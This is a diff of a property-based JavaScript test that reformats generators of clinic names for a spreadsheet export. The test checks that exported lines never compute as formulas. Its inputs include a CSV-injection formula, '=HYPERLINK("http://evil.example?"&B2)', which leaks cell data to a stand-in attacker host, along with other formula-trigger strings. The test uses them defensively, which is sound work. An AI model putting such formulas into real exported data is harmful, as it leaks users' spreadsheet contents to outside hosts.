@@ -39,7 +39,13 @@ it('as CSV is the same lines again', async () => {
 });
 
 it('computes nothing in a spreadsheet, whatever a clinic is called, and is the same lines again', () => {
-  const name = oneof(constantFrom('=HYPERLINK("http://evil.example?"&B2)', '+1', '-2+3', '@SUM(A1)', "'=1", "''@x", '\\t=1', '=', "'", ''), array(constantFrom('=', "'", '+', '-', '@', '\\t', '\\r', 'a', '1', ' ', ',', '"'), { maxLength: 6 }).map((all) => all.join('')), string().map((text) => text.replaceAll(/[\\\t\n\r\b\f\0']/g, '')));
+  const name = oneof(
+    constantFrom('=HYPERLINK("http://evil.example?"&B2)', '+1', '-2+3', '@SUM(A1)', "'=1", "''@x", '\\t=1', '=', "'", ''),
+    array(constantFrom('=', "'", '+', '-', '@', '\\t', '\\r', 'a', '1', ' ', ',', '"'), { maxLength: 6 }).map((all) =>
+      all.join(''),
+    ),
+    string().map((text) => text.replaceAll(/[\\\t\n\r\b\f\0']/g, '')),
+  );
   assert(
     property(name, (clinic) => {
       const line = [clinic.replaceAll("'", "\\'"), 'p', 'displayed', 'identity', '2026', '2026', '1', 'k1'].join('\t');
@@ -48,4 +54,4 @@ it('computes nothing in a spreadsheet, whatever a clinic is called, and is the s
       expect(listLineOf(cells)).toBe(`${line.split('\t').slice(0, 7).join('\t')}\n`);
     }),
   );
-}); // prettier-ignore
+});
